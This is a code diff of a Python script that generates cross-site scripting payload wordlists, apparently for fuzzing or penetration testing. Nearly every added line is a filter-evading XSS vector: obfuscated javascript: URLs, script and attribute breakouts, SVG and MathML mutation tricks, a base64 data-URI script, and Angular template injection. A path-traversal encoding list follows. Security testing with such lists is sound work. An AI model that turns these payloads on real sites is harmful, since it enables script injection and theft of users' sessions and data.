@@ -143,29 +143,32 @@ for e in events:
         q = random.choice(['', '"', "'"])
         out.add('<%s%s %s=%s%s%s>' % (t, extra, e, q, j, q))
         out.add('"><%s %s=%s%s>' % (t, e, j, extra))
-# URL schemes and other contexts
+# URL schemes and other contexts: each template with each JavaScript payload.
+JS_TEMPLATES = [
+    'javascript:%s',
+    'JaVaScRiPt:%s',
+    'java\tscript:%s',
+    '<a href="javascript:%s">x</a>',
+    '<iframe src="javascript:%s">',
+    '<iframe srcdoc="&lt;img src=x onerror=%s&gt;">',
+    '</script><script>%s</script>',
+    "';%s//",
+    '";%s//',
+    "'-%s-'",
+    '<svg><script>%s</script></svg>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=%s>',
+    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
+    '<svg><a><animate attributeName=href values=javascript:%s /><text x=20 y=20>X</text></a>',
+    '<form><button formaction=javascript:%s>X',
+    '<isindex type=image src=1 onerror=%s>',
+    '<meta http-equiv="refresh" content="0;url=javascript:%s">',
+]
 for j in js:
-    out.add('javascript:%s' % j)
-    out.add('JaVaScRiPt:%s' % j)
-    out.add('java\tscript:%s' % j)
-    out.add('<a href="javascript:%s">x</a>' % j)
-    out.add('<iframe src="javascript:%s">' % j)
-    out.add('<iframe srcdoc="&lt;img src=x onerror=%s&gt;">' % j)
-    out.add('</script><script>%s</script>' % j)
-    out.add("';%s//" % j)
-    out.add('";%s//' % j)
-    out.add("'-%s-'" % j)
-    out.add('<svg><script>%s</script></svg>' % j)
-    out.add('<math><mtext><table><mglyph><style><img src=x onerror=%s>' % j)
-    out.add('<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">')
-    out.add('<svg><a><animate attributeName=href values=javascript:%s /><text x=20 y=20>X</text></a>' % j)
-    out.add('<form><button formaction=javascript:%s>X' % j)
-    out.add('<isindex type=image src=1 onerror=%s>' % j)
-    out.add('<meta http-equiv="refresh" content="0;url=javascript:%s">' % j)
+    for tpl in JS_TEMPLATES:
+        out.add(tpl % j if '%s' in tpl else tpl)
     out.add('{{constructor.constructor(\'%s\')()}}' % j.replace("'", ""))
-    out.add('<img src=x onerror=%s>' % j)
-    out.add('<img/src/onerror=%s>' % j)
-    out.add('<svg/onload=%s>' % j)
+    for tpl in ['<img src=x onerror=%s>', '<img/src/onerror=%s>', '<svg/onload=%s>']:
+        out.add(tpl % j)
 open(os.path.join(OUT, 'xss_gen.txt'),'w').write('\n'.join(sorted(x for x in out if '\n' not in x))+'\n')
 print(len(out))
 dots = ['..', '%2e%2e', '%252e%252e', '%c0%2e%c0%2e', '.%2e', '%2e.', '..%00', '%uff0e%uff0e', '0x2e0x2e', '....', '...']
